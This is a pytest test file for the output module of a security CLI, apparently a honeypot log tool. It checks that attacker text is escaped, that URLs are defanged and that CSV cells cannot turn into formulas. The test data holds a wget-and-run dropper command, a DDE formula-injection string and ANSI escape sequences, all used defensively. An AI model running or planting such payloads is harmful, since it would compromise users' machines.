"""What an attacker wrote cannot drive a terminal, a spreadsheet or a click."""

from __future__ import annotations

import csv
import io
import json
import sys
from datetime import UTC, datetime

import click
import pytest

from mead.cli.output import (
    coloured,
    defang,
    defang_text,
    emit,
    escape,
    escape_lines,
    short_digest,
    short_session,
)

NEW_YEAR = datetime(2026, 1, 1, tzinfo=UTC)
ROWS = [
    {"time": NEW_YEAR, "url": "http://192.0.2.1/x", "command": "\x1b[2J", "ports": [1, 2]},
    {"time": NEW_YEAR, "url": None, "command": "=cmd|' /C calc'!A0", "ports": []},
]  # fmt: skip


def test_control_characters_are_escaped() -> None:
    assert escape("a\x1b[31m\u202eb\n\x9b") == "a\\x1b[31m\\u202eb\\n\\x9b"
    assert escape("x" * 500, max_characters=10) == "xxxxxxxxx…"


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("http://192.0.2.1/a.sh", "hxxp://192[.]0[.]2[.]1/a.sh"),
        ("https://evil.example", "hxxps://evil[.]example"),
        ("ftp://evil.example/f", "fxp://evil[.]example/f"),
        ("192.0.2.1", "192[.]0[.]2[.]1"),
        ("HTTP://Evil.Example/", "HxxP://Evil[.]Example/"),
        ("tftp://192.0.2.1/a.b", "tfxp://192[.]0[.]2[.]1/a.b"),
        ("http://a.example/?u=http://b.example/", "hxxp://a[.]example/?u=hxxp://b[.]example/"),
        ("a.example/b.c", "a[.]example/b.c"),
        ("192[.]0[.]2[.]1", "192[.]0[.]2[.]1"),
    ],
)
def test_indicators_are_defanged_for_people(raw: str, safe: str) -> None:
    assert defang(raw) == safe


def test_a_table_is_escaped_and_defanged(capsys: pytest.CaptureFixture[str]) -> None:
    assert emit(ROWS, "table") == 2
    shown = capsys.readouterr().out
    assert "\x1b[2J" not in shown
    assert "hxxp://192[.]0[.]2[.]1/x" in shown


def test_json_lines_are_raw_and_skip_what_is_not_there(capsys: pytest.CaptureFixture[str]) -> None:
    emit(ROWS, "jsonl")
    first, second = map(json.loads, capsys.readouterr().out.splitlines())
    assert first["url"] == "http://192.0.2.1/x"
    assert first["time"] == "2026-01-01T00:00:00Z"
    assert "url" not in second


@pytest.mark.parametrize("rows", [[], ROWS])
def test_json_is_one_document(rows: list[dict[str, object]], capsys: pytest.CaptureFixture[str]) -> None:
    emit(rows, "json")
    assert len(json.loads(capsys.readouterr().out)) == len(rows)


def test_a_csv_cell_cannot_become_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
    emit(ROWS, "csv", ["url", "command", "ports"])
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[1]["command"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["ports"] == "[1, 2]"


def test_links_in_running_text_are_defanged_and_the_rest_stays() -> None:
    typed = "cd /tmp; wget http://192.0.2.1/a.sh && sh a.sh; ftpget 192.0.2.1"
    assert defang_text(typed) == "cd /tmp; wget hxxp://192[.]0[.]2[.]1/a.sh && sh a.sh; ftpget 192.0.2.1"


def test_a_message_keeps_its_lines_and_a_digest_its_beginning() -> None:
    assert escape_lines("a\n\x1b[1mb") == "a\n\\x1b[1mb"
    assert short_digest("ab" * 32) == f"{'ab' * 8}…"
    assert short_session("ab" * 10) == "ab" * 10
    assert short_session("ab" * 16) == f"{'ab' * 10}…"


def test_csv_names_every_field_of_any_row(capsys: pytest.CaptureFixture[str]) -> None:
    assert emit([{"a": 1}, {"b": "x", "a": None}], "csv") == 2
    assert capsys.readouterr().out == "a,b\r\n1,\r\n,x\r\n"


def test_csv_without_its_header_goes_on_where_it_was(capsys: pytest.CaptureFixture[str]) -> None:
    emit([{"a": 1}], "csv", ["a", "b"])
    emit([{"b": 2}], "csv", ["a", "b"], header=False)
    emit([], "csv", ["a", "b"], header=False)
    assert capsys.readouterr().out == "a,b\r\n1,\r\n,2\r\n"


def test_names_that_are_no_utf_8_stop_no_format(capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    for output in ("table", "json", "jsonl", "csv"):
        assert emit([{"file": "a\udcffb"}], output) == 1
    assert capsysbinary.readouterr().out.count(b"udcff") == 4


@pytest.mark.parametrize(
    ("chosen", "no_color", "terminal", "expected"),
    [
        (None, "", True, True),
        (None, "", False, False),
        (None, "1", True, False),
        (True, "1", False, True),
        (False, "", True, False),
    ],
)
def test_colour_follows_the_option_then_no_color_then_the_terminal(
    chosen: bool | None, no_color: str, terminal: bool, expected: bool, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    monkeypatch.setenv("NO_COLOR", no_color)
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
    with click.Context(click.Command("x"), color=chosen):
        assert coloured() is expected
        emit([{"a": 1}], "table")
    assert ("\x1b[" in capsys.readouterr().out) is expected
